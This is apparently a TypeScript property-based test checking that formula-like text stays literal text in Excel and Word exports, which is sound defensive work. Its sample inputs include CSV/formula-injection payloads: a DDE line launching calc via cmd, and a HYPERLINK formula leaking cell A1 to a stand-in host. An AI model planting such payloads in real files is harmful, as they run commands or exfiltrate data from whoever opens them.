/**
 * Nothing from a file is ever evaluated: text that begins with "=", "+", "-", "@" (or a tab, CR or
 * space before them) is written as text by every writer — the Office.js adapter (over the Excel
 * double, which turns such values into formulas as Excel does), the exceljs writer (tracking
 * sheets, report sheets, unit workbooks), and the Word report — a property over random texts.
 */
import fc from "fast-check";
import JSZip from "jszip";
import ExcelJS from "exceljs";
import { OfficeWorkbook, type ExcelRunner } from "../../../src/excel/office-workbook";
import { XlsxWorkbook } from "../../../src/xlsx/xlsx-workbook";
import { asLiteralForValues, startsLikeFormula } from "../../../src/core/sheets/literal-text";
import type { DocumentSheet } from "../../../src/core/sheets/document-spec";
import { WorkbookDouble } from "../../doubles/excel-double";
import { sampleSheet } from "../../excel/sample-sheet";
import { Document, Packer, Paragraph, TextRun } from "docx";

const trigger = fc.constantFrom("=", "+", "-", "@", "\t=", "\r=", " =", "\t@", "\r+");
const body = fc.oneof(
  fc.constantFrom(
    'HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    "1+1",
    " Phòng Văn hóa – Xã hội",
    "84 912 345 678",
    "ghi chú",
  ),
  fc.string({ minLength: 1, maxLength: 40 }),
);
const hostile = fc.tuple(trigger, body).map(([t, b]) => `${t}${b}`);

/** A document sheet (report layout) holding the texts, one per row. */
function documentOf(texts: string[]): DocumentSheet {
  return {
    name: "BC",
    orientation: "portrait",
    marginsMm: { top: 20, bottom: 20, left: 30, right: 15 },
    columnWidths: [40],
    rows: texts.map((value) => ({ cells: [{ value }] })),
    pageNumbersFromSecond: false,
    fitToWidth: true,
    font: { name: "Times New Roman", size: 13 },
  };
}

const RUNS = 60;

describe("text that looks like a formula stays text in every writer", () => {
  it("is guarded, leading whitespace included", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(startsLikeFormula(text)).toBe(true);
        expect(asLiteralForValues(text)).toBe(`'${text}`);
      }),
    );
  });

  it("Office.js adapter: sheets and report documents over the Excel double", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 3, maxLength: 3 }), async (texts) => {
        const book = new WorkbookDouble();
        const adapter = new OfficeWorkbook(book.run as unknown as ExcelRunner);
        const spec = sampleSheet(3);
        texts.forEach((t, i) => (spec.rows[i]![1] = t));
        await adapter.writeSheets([spec]);
        await adapter.writeDocuments([documentOf(texts)]);
        const sheet = book.sheet(spec.name)!;
        texts.forEach((t, i) => expect(sheet.peek(i + 1, 1)).toMatchObject({ value: t, formula: null }));
        const doc = book.sheet("BC")!;
        texts.forEach((t, i) => expect(doc.peek(i, 0)).toMatchObject({ value: t, formula: null }));
      }),
      { numRuns: RUNS },
    );
  });

  it("exceljs: sheets and report documents read back as strings, with no formula in the file", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 3, maxLength: 3 }), async (texts) => {
        const book = new XlsxWorkbook();
        const spec = sampleSheet(3);
        texts.forEach((t, i) => (spec.rows[i]![1] = t));
        await book.writeSheets([spec]);
        await book.writeDocuments([documentOf(texts)]);
        const bytes = await book.toBytes();
        const back = new ExcelJS.Workbook();
        await back.xlsx.load(bytes as unknown as ArrayBuffer);
        const ws = back.getWorksheet(spec.name)!;
        texts.forEach((t, i) => {
          const { value, formula } = ws.getCell(i + 2, 2) as { value: unknown; formula?: string };
          // XML turns a carriage return into a line feed when the file is read (it is not escaped).
          const kept = t.replace(/\r\n?/g, "\n");
          expect({ value, formula }).toEqual({ value: kept, formula: undefined });
        });
        const doc = back.getWorksheet("BC")!;
        texts.forEach((t, i) => expect(doc.getCell(i + 1, 1).value).toBe(t.replace(/\r\n?/g, "\n")));
        // The text column holds no <f> element: only the sheet's own formula column does.
        const zip = await JSZip.loadAsync(bytes);
        const docXml = await zip.file("xl/worksheets/sheet2.xml")!.async("string");
        expect(docXml).not.toContain("<f>");
      }),
      { numRuns: RUNS / 3 },
    );
  });

  it("Word: the text goes into w:t runs, escaped, never a field", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 1, maxLength: 4 }), async (texts) => {
        const doc = new Document({
          sections: [{ children: texts.map((t) => new Paragraph({ children: [new TextRun(t)] })) }],
        });
        const zip = await JSZip.loadAsync(await Packer.toBuffer(doc));
        const xml = await zip.file("word/document.xml")!.async("string");
        expect(xml).not.toMatch(/<w:fldSimple|<w:instrText/);
      }),
      { numRuns: RUNS / 3 },
    );
  });
});
